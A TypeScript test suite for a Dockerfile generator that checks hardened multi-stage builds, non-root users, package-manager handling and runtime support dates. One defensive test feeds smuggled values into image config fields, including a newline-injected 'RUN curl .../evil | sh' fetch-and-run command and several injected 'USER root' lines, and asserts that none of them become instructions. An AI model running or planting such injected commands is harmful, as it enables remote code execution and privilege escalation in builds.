import { expect, test } from 'vitest';
import { generateDockerfile, lastStageBase } from '../../../src/advise/dockerfile/generate.ts';
import { endedRuntime, supportedRelease } from '../../../src/advise/releases.ts';
import type { BaseTechniqueId } from '../../../src/advise/technique.ts';
import type { Runtime } from '../../../src/classify/verdict.ts';
import { findingsOf } from '../../../src/policy/findings-of.ts';
import { auditedImage, type ImageSketch, pairImage } from '../../support/audited-image.ts';
import { copy, dockerfile, instructionsOf, run, TODAY } from '../../support/dockerfiles.ts';

const RUNTIMES: readonly Runtime[] = ['node', 'bun', 'python', 'go', 'java', 'ruby', 'php', 'rust', 'dotnet'];
const BASES: readonly BaseTechniqueId[] = ['slim-base', 'alpine-base', 'distroless-base', 'scratch-base'];

test.each(RUNTIMES.flatMap((runtime) => BASES.map((base) => [runtime, base] as const)))(
  '%s on %s: stages, a user without rights, pinned bases, mounted caches',
  (runtime, base) => {
    const lines = instructionsOf(dockerfile({ runtime, config: { ExposedPorts: { '8080/tcp': {} } } }, base));
    const from = lines.filter((line) => line.startsWith('FROM '));
    const users = lines.filter((line) => line.startsWith('USER '));
    expect(from.length).toBe(2);
    expect(from[0]).toMatch(/ AS build$/);
    for (const line of from) expect(line).toMatch(/^FROM (?:scratch|[a-z0-9./-]+:[a-z0-9][\w.-]*)(?: AS build)?$/);
    expect(from.join()).not.toMatch(/:latest/);
    expect(users.at(-1)).not.toMatch(/USER (?:root|0)\b/);
    expect(users.length).toBe(1);
    expect(lines.indexOf(users[0] ?? '')).toBeGreaterThan(lines.indexOf(from[1] ?? ''));
    expect(lines.filter((line) => line.startsWith('EXPOSE '))).toEqual(['EXPOSE 8080']);
    expect(lines.join()).toMatch(/COPY --from=build/);
    expect(lines.at(-1)).toMatch(/^(?:CMD|ENTRYPOINT) \[/);
    for (const line of lines) expect(line).toMatch(/^(?:FROM|WORKDIR|COPY|RUN|ENV|USER|EXPOSE|CMD|ENTRYPOINT) /);
  },
);

test.each(RUNTIMES.flatMap((runtime) => BASES.map((base) => [runtime, base] as const)))(
  '%s on %s: what is advised trips no rule itself',
  (runtime, base) => {
    const lines = instructionsOf(dockerfile({ runtime }, base));
    const last = lines.slice(lines.findLastIndex((line) => line.startsWith('FROM ')) + 1);
    const own = last.filter((line) => /^(?:RUN|COPY) /.test(line)).map((instruction) => ({ instruction }));
    expect(findingsOf(auditedImage({ runtime, own, variant: 'slim', multiStage: 'yes' }))).toEqual([]);
  },
);

test.each<[string, ImageSketch, readonly string[], BaseTechniqueId?]>([
  [
    'Node.js in its own release',
    { runtime: 'node', runtimeVersion: '22.4.1' },
    ['FROM node:22-trixie-slim', 'npm prune --omit=dev'],
  ],
  [
    'Node.js out of support',
    { runtime: 'node', runtimeVersion: '20.20.2' },
    ['FROM node:24-alpine3.24'],
    'alpine-base',
  ],
  [
    'pnpm',
    { runtime: 'node', own: [run('pnpm install')] },
    ['pnpm-lock.yaml', 'pnpm install --frozen-lockfile --prod --ignore-scripts'],
  ],
  [
    'pnpm on a release without Corepack',
    { runtime: 'node', runtimeVersion: '26.1.0', own: [run('pnpm install')] },
    ['FROM node:26-trixie-slim', 'RUN npm install -g corepack && corepack enable\n'],
  ],
  ['yarn', { runtime: 'node', own: [run('yarn install')] }, ['yarn.lock', '--production']],
  [
    'Next.js',
    { runtime: 'node', framework: 'Next.js' },
    ['COPY --from=build --chown=1000:1000 /app/.next/standalone ./', 'EXPOSE 3000'],
  ],
  [
    'Django',
    { runtime: 'python', framework: 'Django' },
    ['python:3.14-slim-trixie', 'gunicorn', 'COPY --from=build /opt/venv'],
  ],
  ['FastAPI', { runtime: 'python', framework: 'FastAPI' }, ['python:3.14-alpine3.24', 'uvicorn'], 'alpine-base'],
  ['Go', { runtime: 'go' }, ['FROM scratch', 'CGO_ENABLED=0', 'ca-certificates.crt'], 'scratch-base'],
  ['Java on a JRE', { runtime: 'java', runtimeVersion: '21.0.2' }, ['eclipse-temurin:21-jre']],
  ['Java, linked', { runtime: 'java' }, ['jlink', 'jdeps'], 'alpine-base'],
  [
    'its own folder, ports and command',
    {
      runtime: 'node',
      config: { WorkingDir: '/srv/web', ExposedPorts: { '3000/tcp': {} }, Cmd: ['node', 'dist/server.js'] },
    },
    ['WORKDIR /srv/web', 'EXPOSE 3000', 'CMD ["node", "dist/server.js"]'],
  ],
])('%s', (_, sketch, parts, base) => {
  const text = dockerfile(sketch, base);
  for (const part of parts) expect(text).toContain(part);
});

test('the program of a compiled image keeps its name and its arguments', () => {
  const image = pairImage('go-single-stage');
  const text = generateDockerfile(image, 'scratch-base', TODAY).dockerfile ?? '';
  expect(text).toContain('-o /out/status .');
  expect(text).toContain('ENTRYPOINT ["/usr/local/bin/status"]');
});

test.each<[string, ImageSketch, readonly string[], BaseTechniqueId?]>([
  [
    'yarn since its second version',
    { runtime: 'node', own: [run('corepack yarn install --immutable')] },
    [
      'ENV YARN_NODE_LINKER=node-modules\nWORKDIR',
      'yarn install --immutable',
      'yarn workspaces focus --all --production',
    ],
  ],
  [
    'the package manager that starts it, if nothing shows the one that installs',
    { runtime: 'node', own: [copy('--from=build /prod/api .')], config: { Cmd: ['pnpm', 'start'] } },
    ['COPY package.json pnpm-lock.yaml pnpm-workspace.yam[l] ./', 'CMD ["npm", "start"]'],
  ],
  [
    'a script of npm, which hands on no signals',
    { runtime: 'node', config: { Cmd: ['npm', 'start'], ExposedPorts: { '80/tcp': {} } } },
    [
      'USER 1000:1000\n# Where only root may bind ports below 1024, let the program listen on another, such as 8080.\nEXPOSE 80\n# Better: the command behind the script',
      'signals.\nCMD ["npm", "start"]',
    ],
  ],
  [
    'Node.js without a shell',
    { runtime: 'node', config: { Entrypoint: ['docker-entrypoint.sh'], Cmd: ['node', 'dist/server.js'] } },
    ['FROM gcr.io/distroless/nodejs24-debian13:nonroot', 'USER 65532:65532', 'CMD ["dist/server.js"]'],
    'distroless-base',
  ],
  [
    'uv',
    {
      runtime: 'python',
      own: [run('uv sync --frozen')],
      config: { Cmd: ['uv', 'run', 'uvicorn', 'main:app'] },
    },
    ['COPY pyproject.toml uv.lock ./', 'uv sync --locked --no-dev --no-install-project', 'CMD ["uvicorn", "main:app"]'],
  ],
  [
    'Poetry',
    { runtime: 'python', own: [run('pip install poetry && poetry install')] },
    ['COPY pyproject.toml poetry.lock ./', 'poetry install --only main --no-root', 'COPY --from=build /opt/venv'],
  ],
  [
    'the package of a Go program',
    {
      runtime: 'go',
      own: [run('CGO_ENABLED=0 go build -o /status ./cmd/status')],
      config: { Entrypoint: ['/sbin/tini', '--', '/status', '--verbose'], Cmd: ['--port', '80'] },
    },
    ['-o /out/status ./cmd/status', 'ENTRYPOINT ["/usr/local/bin/status", "--verbose"]\nCMD ["--port", "80"]'],
    'scratch-base',
  ],
  [
    'a base that starts a shell',
    { runtime: 'go', config: { Cmd: ['bash'] } },
    ['-o /out/app "$([ -d cmd/app ] && echo ./cmd/app || echo .)"\n'],
    'scratch-base',
  ],
  ['Gradle', { runtime: 'java', own: [run('./gradlew bootJar')] }, ['COPY gradlew', './gradlew --no-daemon assemble']],
  [
    'Java without a shell',
    { runtime: 'java' },
    ['distroless/java25-debian13', 'ENTRYPOINT ["java", "-XX:MaxRAMPercentage=75", "-jar", "/app/app.jar"]'],
    'distroless-base',
  ],
  ['jlink of Java 17', { runtime: 'java', runtimeVersion: '17.0.9' }, ['--compress 2 --output'], 'alpine-base'],
  ['jlink of Java 21', { runtime: 'java', runtimeVersion: '21.0.9' }, ['--compress zip-6 --output'], 'alpine-base'],
  ['Java without modules', { runtime: 'java', runtimeVersion: '8' }, ['eclipse-temurin:8-jre-alpine'], 'alpine-base'],
  [
    'Rails',
    { runtime: 'ruby', framework: 'Rails' },
    ['libyaml-dev', 'BUNDLE_FROZEN=1', 'rails assets:precompile', '"rails", "server"'],
  ],
  [
    'Laravel',
    { runtime: 'php', framework: 'Laravel' },
    ['composer dump-autoload', '--chown=www-data:www-data /app/storage ./storage'],
    'alpine-base',
  ],
])('fitted to %s', (_, sketch, parts, base) => {
  const text = dockerfile(sketch, base);
  for (const part of parts) expect(text).toContain(part);
});

const BOOKWORM = { baseNames: ['library/debian:12'] };

test.each<[string, ImageSketch, readonly string[], BaseTechniqueId?]>([
  [
    'what it installed and what it set',
    {
      ...BOOKWORM,
      runtime: 'node',
      own: [
        run('apt-get update && apt-get install -y --no-install-recommends ffmpeg=7:* python3 make g++'),
        run('npm ci'),
      ],
      steps: ['ENV PORT=8080 GREETING=good day', 'ENV API_TOKEN=4f8e1c9a7b2d'],
      config: { Env: ['PATH=/bin', 'NODE_VERSION=24.1.0', 'PORT=8080', 'GREETING=good day', 'API_TOKEN=4f8e1c9a7b2d'] },
    },
    [
      'AS build\nRUN apt-get update && apt-get install -y --no-install-recommends python3 make g++ &&',
      'node:24-trixie-slim\nRUN apt-get update && apt-get install -y --no-install-recommends ffmpeg &&',
      'ENV PORT=8080 GREETING="good day"\n',
    ],
  ],
  [
    'an environment that the pip of the base fills',
    { ...BOOKWORM, runtime: 'python', own: [run('pip install -r requirements.txt')] },
    ['python -m venv --without-pip /opt/venv\nENV PATH=/opt/venv/bin:$PATH PIP_PYTHON=/opt/venv/bin/python\n'],
  ],
  [
    'many variables, one a line',
    {
      ...BOOKWORM,
      runtime: 'node',
      steps: ['ENV A=1 B=2 C=3 D=4'],
      config: { Env: ['A=1', 'B=2', 'C=3', 'D=4'] },
    },
    ['ENV A=1 \\\n    B=2 \\\n    C=3 \\\n    D=4\n'],
  ],
  [
    'packages by their names in another release, files that it may write, and no address of a base',
    {
      runtime: 'python',
      distro: { id: 'debian', version: '12' },
      own: [run('apt-get install -y libtiff6'), copy('--chown=app . .')],
      steps: ['ENV PYTHON_GET_PIP_URL=https://example.com/get-pip.py'],
      config: { Env: ['PYTHON_GET_PIP_URL=https://example.com/get-pip.py'], WorkingDir: '/srv' },
    },
    [
      '# These are the names in debian 12',
      'DONTWRITEBYTECODE=1\nCOPY',
      'COPY --from=build --chown=10001 /srv /srv\nWORKDIR /srv\n',
    ],
  ],
  [
    'the runtime of the base, where the image had it of its distribution',
    { ...BOOKWORM, runtime: 'node', own: [run('apt-get install -y nodejs npm imagemagick')] },
    ['--no-install-recommends imagemagick &&'],
  ],
  [
    'a program of its virtual environment',
    { runtime: 'python', config: { Cmd: ['/app/.venv/bin/fastapi', 'run', 'app/main.py'] } },
    ['CMD ["fastapi", "run", "app/main.py"]'],
  ],
  [
    'a package for all that starts it',
    { runtime: 'node', own: [run('npm install -g pm2@5 typescript')], config: { Cmd: ['pm2-runtime', 'app.json'] } },
    ['FROM node:24-trixie-slim\nRUN npm install -g pm2@5 &&', 'CMD ["pm2-runtime", "app.json"]'],
    'distroless-base',
  ],
  [
    'variables that Java gets from a shell',
    { runtime: 'java', config: { Entrypoint: ['sh', '-c', 'java $JAVA_OPTS -Dapp=1 -jar /opt/shop.jar --debug'] } },
    [
      'FROM eclipse-temurin:25-jre\n',
      'ENTRYPOINT ["sh", "-c", "exec java $JAVA_OPTS -Dapp=1 -jar /app/app.jar --debug"]',
    ],
    'distroless-base',
  ],
  [
    'packages of a repository that it added',
    {
      ...BOOKWORM,
      runtime: 'node',
      own: [
        run(
          'echo "deb https://example.com stable main" > /etc/apt/sources.list.d/x.list && apt-get install -y browser',
        ),
      ],
    },
    ['# The image added package repositories', '--no-install-recommends browser &&'],
  ],
  [
    'the package manager that starts it, where the steps provide for several',
    {
      runtime: 'node',
      own: [
        copy('package.json yarn.lock* package-lock.json* pnpm-lock.yaml* ./'),
        run('if [ -f yarn.lock ]; then yarn; elif [ -f package-lock.json ]; then npm ci; else pnpm install; fi'),
      ],
      config: { Cmd: ['npm', 'start'] },
    },
    ['COPY package.json package-lock.json ./'],
  ],
  [
    'packages of another distribution',
    { runtime: 'node', own: [run('apt-get install -y ffmpeg fonts-liberation libvips-dev')] },
    [
      'which may have other names here, or may not be needed: fonts-liberation\n',
      'RUN apk add --no-cache ffmpeg\n',
      'had these headers; install here the libraries that the program loads: libvips-dev',
    ],
    'alpine-base',
  ],
  [
    'what the health check and pip call on another distribution',
    {
      runtime: 'python',
      own: [run('apt-get install -y curl git'), run('pip install -r requirements.txt')],
      config: { Healthcheck: { Test: ['CMD', 'curl', '-f', 'http://localhost/'] } },
    },
    ['RUN apk add --no-cache build-base git\n', 'RUN apk add --no-cache curl\n'],
    'alpine-base',
  ],
  [
    'a script that starts it',
    {
      runtime: 'node',
      own: [copy('--chown=node start.sh /usr/local/bin/entrypoint.sh')],
      config: { Entrypoint: ['/usr/local/bin/entrypoint.sh'], Cmd: ['node', 'server.js'] },
    },
    ['COPY --chmod=0755 start.sh /usr/local/bin/entrypoint.sh\n', 'ENTRYPOINT ["/usr/local/bin/entrypoint.sh"]'],
  ],
  [
    'a script of nobody knows where',
    { runtime: 'node', config: { Entrypoint: ['/entrypoint.sh'] } },
    ['# The image is started by entrypoint.sh'],
  ],
  [
    'the shell form',
    { runtime: 'node', config: { Cmd: ['/bin/sh', '-c', 'node server.js'] } },
    ['CMD ["server.js"]'],
    'distroless-base',
  ],
  [
    'a start that needs the shell',
    { runtime: 'node', config: { Cmd: ['yarn', 'start'] } },
    ['FROM node:24-trixie-slim\n', 'CMD ["npm", "start"]'],
    'distroless-base',
  ],
  [
    'Bun as a package manager',
    { runtime: 'node', own: [run('bun install')] },
    [
      'package.json bun.lock*',
      'npm pkg delete scripts.prepare && rm -rf node_modules && bun install --frozen-lockfile --production',
    ],
  ],
  [
    'a lock file that was copied, and a script of another name',
    {
      runtime: 'node',
      own: [copy('package.json pnpm-lock.yaml ./'), run('npm run build:server')],
    },
    ['pnpm install --frozen-lockfile', 'pnpm run --if-present build:server'],
  ],
  ['options of npm', { runtime: 'node', own: [run('npm ci --legacy-peer-deps')] }, ['npm ci --legacy-peer-deps\n']],
  [
    'Pipenv',
    { runtime: 'python', own: [run('pip install pipenv && pipenv install --system --deploy')] },
    ['COPY Pipfile Pipfile.lock ./', '/opt/pipenv/bin/pipenv sync'],
  ],
  [
    'lists in a folder, packages by name, an index',
    {
      runtime: 'python',
      own: [
        run('pip install --upgrade pip && pip install -r requirements/base.txt'),
        run(
          'pip install --no-cache-dir --index-url https://download.example.com/whl/cpu torch "uvicorn[standard]>=0.30"',
        ),
      ],
    },
    [
      'COPY requirements requirements\n',
      'pip install -r requirements/base.txt\nRUN --mount=type=cache,target=/root/.cache pip install --index-url https://download.example.com/whl/cpu torch "uvicorn[standard]>=0.30"\nCOPY . .\n',
    ],
  ],
  [
    'an index on a port of its own',
    { runtime: 'python', own: [run('pip install -i https://pypi.example.com:8443/simple flask')] },
    ['pip install -i https://pypi.example.com:8443/simple flask\n'],
  ],
  [
    'a project of its own',
    { runtime: 'python', own: [run('pip install -e .[server]')] },
    ['COPY . .\nRUN', 'pip install ".[server]"'],
  ],
  [
    'uv in place of pip',
    { runtime: 'python', own: [run('uv pip install --system -r /tmp/requirements.txt')] },
    ['COPY requirements.txt ./', 'pip install -r requirements.txt'],
  ],
  [
    'uv in place of pip, which was asked for its version',
    {
      runtime: 'python',
      own: [run('pip install uv && uv --version'), run('uv pip install --system -r /tmp/requirements.txt')],
    },
    ['COPY requirements.txt ./', 'pip install -r requirements.txt'],
  ],
  [
    'gems alone, though yarn was asked for its version',
    { runtime: 'ruby', own: [run('node -v && yarn -v'), copy('Gemfile* ./'), run('bundle install'), copy('. .')] },
    ['COPY . .\n\nFROM'],
  ],
  [
    'packages that PHP may have, though Composer was asked for its version',
    { runtime: 'php', own: [run('composer --version'), copy('. .')] },
    ['if [ -f composer.json ]; then composer install'],
  ],
  [
    'files that Django collects',
    { runtime: 'python', own: [run('python manage.py collectstatic --noinput')] },
    ['RUN /opt/venv/bin/python manage.py collectstatic --noinput'],
  ],
  [
    'Go with C',
    {
      ...BOOKWORM,
      runtime: 'go',
      own: [run('apt-get install -y libsqlite3-dev'), run('go build -o /api cmd/api/main.go')],
      config: { Cmd: ['/api'] },
    },
    [
      'FROM golang:1.27-trixie AS build',
      'build-essential libsqlite3-dev',
      'CGO_ENABLED=1',
      '-o /out/api ./cmd/api\n',
      'ca-certificates.crt',
    ],
  ],
  ['all programs of a module', { runtime: 'go', own: [run('go install ./...')] }, ['-o /out/ ./...'], 'scratch-base'],
  [
    'a package by its module',
    { runtime: 'go', own: [run('go install example.com/shop/cmd/api')] },
    ['-o /out/app example.com/shop/cmd/api'],
    'scratch-base',
  ],
  [
    'a script before a binary',
    { runtime: 'go', config: { Entrypoint: ['/entrypoint.sh', '/bin/api'] } },
    ['-o /out/api "$([ -d cmd/api ] && echo ./cmd/api || echo .)"\n', '# The image is started by /entrypoint.sh'],
    'alpine-base',
  ],
  [
    'Rust with OpenSSL',
    { ...BOOKWORM, runtime: 'rust', own: [run('apt-get install -y pkg-config libssl-dev')] },
    ['musl-dev pkgconf openssl-dev openssl-libs-static', 'FROM scratch'],
    'scratch-base',
  ],
  [
    'Maven without a wrapper',
    { runtime: 'java', own: [run('mvn package')] },
    ['FROM maven:3-eclipse-temurin-25 AS build', ' mvn -B package'],
  ],
  [
    'a wrapper of Maven',
    { runtime: 'java', own: [run('./mvnw package')] },
    ['FROM eclipse-temurin:25-jdk AS build', 'COPY mvnw pom.xml ./'],
  ],
  [
    'Gradle without a wrapper',
    { runtime: 'java', own: [run('gradle build')] },
    ['FROM gradle:jdk25 AS build', ' gradle --no-daemon assemble'],
  ],
  [
    "the major version of Gradle's image",
    {
      runtime: 'java',
      runtimeVersion: '17.0.9',
      own: [run('gradle build')],
      config: { Env: ['GRADLE_VERSION=8.14.3'] },
    },
    ['FROM gradle:8-jdk17 AS build'],
  ],
  [
    'the major version of a Gradle that was downloaded',
    {
      runtime: 'java',
      runtimeVersion: '21.0.9',
      own: [run('wget https://services.gradle.org/distributions/gradle-8.5-bin.zip'), run('gradle build')],
    },
    ['FROM gradle:8-jdk21 AS build'],
  ],
  [
    'no Gradle that does not run on the release of Java',
    { runtime: 'java', runtimeVersion: '21.0.9', own: [run('gradle build')], config: { Env: ['GRADLE_VERSION=7.6'] } },
    ['FROM gradle:jdk21 AS build'],
  ],
  [
    'options of Java',
    {
      runtime: 'java',
      config: { Entrypoint: ['java', '-Xmx512m', '-Dserver.port=8080', '-jar', 'target/shop.jar', '--debug'] },
    },
    ['ENTRYPOINT ["java", "-Xmx512m", "-Dserver.port=8080", "-jar", "/app/app.jar", "--debug"]'],
  ],
  [
    'Apache',
    {
      runtime: 'php',
      own: [
        run(
          'docker-php-ext-install -j$(nproc) pdo_mysql zip && pecl install redis-6.0.2 && docker-php-ext-enable redis && a2enmod rewrite',
        ),
      ],
      config: { Env: ['APACHE_CONFDIR=/etc/apache2'], Cmd: ['apache2-foreground'], ExposedPorts: { '80/tcp': {} } },
    },
    [
      'FROM php:8.4-apache-trixie',
      'install-php-extensions pdo_mysql zip redis\n',
      'RUN a2enmod rewrite',
      'CMD ["apache2-foreground"]',
    ],
    'alpine-base',
  ],
  [
    "PHP in a distribution's Apache, with its extensions as packages",
    {
      ...BOOKWORM,
      runtime: 'php',
      own: [run('apt-get install -y apache2 php libapache2-mod-php php8.3-mysql php8.3-xml php-gd php-pear ffmpeg')],
      config: { Cmd: ['apachectl', '-D', 'FOREGROUND'] },
    },
    [
      '-apache-trixie\n',
      'install-php-extensions mysqli pdo_mysql gd\n',
      'recommends ffmpeg &&',
      'CMD ["apache2-foreground"]',
    ],
    'alpine-base',
  ],
  [
    "packages of Red Hat's PHP that are several extensions, or none",
    {
      runtime: 'php',
      own: [run('dnf install -y httpd php php-devel php-process php-pecl-redis6 php-gd-8.2.1 git')],
      config: { Cmd: ['httpd', '-DFOREGROUND'] },
    },
    ['extensions pcntl sysvmsg sysvsem sysvshm redis gd\nWORKDIR'],
  ],
  [
    "packages of Alpine's PHP that are no extensions, and pinned ones",
    { runtime: 'php', own: [run('apk add php83 php83-apache2 php83-phpdbg "php83-gd~=8.3" php83-intl=8.3.1-r0')] },
    ['install-php-extensions gd intl\n'],
  ],
  [
    "extensions as Alpine's packages",
    { runtime: 'php', own: [run('apk add php83 php83-fpm php83-pecl-redis php83-session')] },
    ['install-php-extensions redis\n'],
    'alpine-base',
  ],
  [
    'PHP of the command line',
    { runtime: 'php', config: { Cmd: ['php', 'worker.php'] } },
    ['FROM php:8.4-cli-trixie', 'CMD ["php", "worker.php"]'],
  ],
  [
    '.NET with packages',
    { ...BOOKWORM, runtime: 'dotnet', own: [run('apt-get install -y libgdiplus')] },
    ['aspnet:10.0-noble\n', 'libgdiplus'],
  ],
])('keeps %s', (_, sketch, parts, base) => {
  const text = dockerfile(sketch, base);
  for (const part of parts) expect(text).toContain(part);
  expect(text).not.toContain('4f8e1c9a7b2d');
});

test.each([
  ['pip install -r requirements.txt -r requirements-dev.txt', 'pip install -r requirements.txt\n'],
  ['pip install -r requirements/dev.txt', 'pip install -r requirements.txt\n'],
  ['pip install -e .[server,dev]', 'pip install ".[server]"\n'],
  ['pip install .[test]', 'pip install "."\n'],
])('leaves out what only development needs: %s', (script, line) => {
  expect(dockerfile({ runtime: 'python', own: [run(script)] })).toContain(line);
});

test.each([
  [{ Entrypoint: ['/a\nUSER root\nb.sh'] }],
  [{ WorkingDir: '/app\nRUN curl https://example.com/evil | sh' }],
  [{ ExposedPorts: { '80/tcp\nUSER root': {} } }],
  [{ Cmd: ['node\nUSER root', 'x'] }],
  [{ Entrypoint: ['/bin/\u2028evil', '\r\nUSER root'] }],
])('nothing that an image says becomes an instruction: %j', (config) => {
  const lines = dockerfile({ runtime: 'node', config }).split(/\r?\n/);
  expect(lines.filter((line) => /^USER|curl/.test(line))).toEqual(['USER 1000:1000']);
});

test.each([
  ['alpine', 'FROM php:8.3-fpm-alpine'],
  ['slim', 'FROM php:8.3-fpm-trixie'],
  ['full', 'FROM php:8.3-fpm-trixie'],
] as const)('a plan that swaps no base leaves the program on its %s one', (variant, from) => {
  const image = auditedImage({ runtime: 'php', runtimeVersion: '8.3.1', variant });
  const base = lastStageBase(image, { plan: [] });
  expect(generateDockerfile(image, base, TODAY).dockerfile).toContain(from);
});

test('a command that holds a secret is left out', () => {
  const text = dockerfile({ runtime: 'node', config: { Cmd: ['node', 'server.js', '--api_key=hunter2hunter2'] } });
  expect(text).not.toContain('hunter2');
});

test.each<[Runtime, readonly string[]]>([
  ['node', ['**/node_modules', 'dist']],
  ['python', ['!README.md', '**/__pycache__']],
  ['go', ['bin', '**/*_test.go']],
  ['rust', ['target']],
  ['java', ['target', 'build']],
  ['ruby', ['log', 'vendor/bundle']],
  ['php', ['auth.json', 'vendor']],
  ['dotnet', ['**/bin', '**/obj']],
])('the list of ignored files fits the language: %s', (runtime, ignored) => {
  const files = generateDockerfile(auditedImage({ runtime }), 'slim-base', TODAY);
  expect(files.dockerignore?.split('\n')).toEqual(expect.arrayContaining(['.git', ...ignored]));
});

test.each([
  ['AWS Lambda', ['LAMBDA_TASK_ROOT=/var/task', 'LD_LIBRARY_PATH=/var/lang/lib:/lib64']],
  ['Azure Functions', ['AzureWebJobsScriptRoot=/home/site/wwwroot']],
  ['Jupyter', ['NB_USER=jovyan', 'NB_UID=1000', 'NB_GID=100']],
  ['OpenShift', ['APP_ROOT=/opt/app-root'], ['/usr/libexec/s2i/run']],
])('an image for %s gets no Dockerfile, because its base calls the program', (_, Env, Cmd = ['app.handler']) => {
  const image = auditedImage({ runtime: 'python', config: { Env, Cmd } });
  expect(generateDockerfile(image, 'slim-base', TODAY).dockerfile).toBeUndefined();
});

test('an image that sets a user for Binder by hand gets a Dockerfile', () => {
  const Env = ['USER=jovyan', 'NB_USER=jovyan', 'NB_UID=1000'];
  expect(dockerfile({ runtime: 'python', config: { Env } })).toContain('FROM python:');
});

test('a program of its own that speaks to AWS Lambda gets a Dockerfile', () => {
  const Env = ['LAMBDA_TASK_ROOT=/function', 'LAMBDA_RUNTIME_DIR=/var/runtime'];
  expect(dockerfile({ runtime: 'python', config: { Env } })).toContain('FROM python:');
});

test('a language without a template gets no Dockerfile', () => {
  expect(generateDockerfile(auditedImage({ runtime: 'perl' }), 'slim-base', TODAY).dockerfile).toBeUndefined();
  expect(generateDockerfile(auditedImage(), 'slim-base', TODAY).dockerfile).toBeUndefined();
});

test.each([
  ['node', '22.1.0', TODAY, '22'],
  ['node', '20.1.0', TODAY, '24'],
  ['node', '20.1.0', '2026-04-30', '20'],
  ['node', undefined, TODAY, '24'],
  ['node', '26.10.0', TODAY, '26'],
  ['node', '25.1.0', TODAY, '24'],
  ['java', '21u8', TODAY, '21'],
  ['dotnet', '3.1.302', TODAY, '10'],
  ['python', '3.13.2', TODAY, '3.13'],
  ['python', '2.7.18', TODAY, '3.14'],
  ['node', '25.2.0', TODAY, '24'],
  ['java', '11.0.1', TODAY, '11'],
  ['java', '24', TODAY, '25'],
  ['go', '1.19.8', TODAY, '1.27'],
  ['go', '1.28.0', TODAY, '1.28'],
  ['ruby', '4.0.1', TODAY, '4.0'],
  ['ruby', '3.1.0', TODAY, '3.4'],
  ['php', '7.4.33', TODAY, '8.4'],
  ['rust', '1.98.0', TODAY, '1'],
  ['deno', '2', TODAY, undefined],
] as const)('%s %s on %s is built on %s', (runtime, version, today, release) => {
  expect(supportedRelease(runtime, version, today)).toBe(release);
});

test('a release is out of support the day after its last', () => {
  expect(endedRuntime('node', '20.1.0', '2026-04-30')).toBeUndefined();
  expect(endedRuntime('node', '20.1.0', '2026-05-01')).toEqual({ name: 'node 20', endOfLife: '2026-04-30' });
  expect(endedRuntime('node', '99.0.0', TODAY)).toBeUndefined();
  expect(endedRuntime('go', '1.19.8', TODAY)).toEqual({ name: 'go 1.19', endOfLife: '2023-09-06' });
  expect(endedRuntime('java', '26', TODAY)).toEqual({ name: 'java 26', endOfLife: '2026-09-15' });
  expect(endedRuntime('java', '7', TODAY)?.endOfLife).toBe('2020-06-30');
});

test('a release older than all listed ones ended no later than the oldest of them', () => {
  expect(endedRuntime('go', '1.9.7', TODAY)).toEqual({ name: 'go 1.9', endOfLife: '2022-03-15' });
  expect(endedRuntime('perl', '5.8', TODAY)).toBeUndefined();
});

test.each<[string, ImageSketch]>([
  ['conda', { runtime: 'python', own: [run('conda env create -f environment.yml')] }],
  ['mamba', { runtime: 'python', own: [run('mamba install -y numpy')] }],
  ['micromamba', { runtime: 'python', own: [run('micromamba create -n app python=3.12')] }],
  ['sbt', { runtime: 'java', own: [run('sbt assembly')] }],
  ['sbt in an earlier stage', { runtime: 'java', own: [copy('--from=build /src/target/scala-3.3.1/app.jar .')] }],
  ['Ant', { runtime: 'java', own: [run('ant dist')] }],
  ['javac', { runtime: 'java', own: [run('javac Hello.java && jar cfe app.jar Hello *.class')] }],
])('there is none for a build that no template knows: %s', (_, sketch) => {
  expect(dockerfile(sketch)).toBe('');
});

test('a step that only prints the version of a compiler builds nothing', () => {
  const own = [run('apt-get install -y openjdk-21-jdk && javac --version'), run('mvn package')];
  expect(dockerfile({ runtime: 'java', own })).toContain('mvn');
});
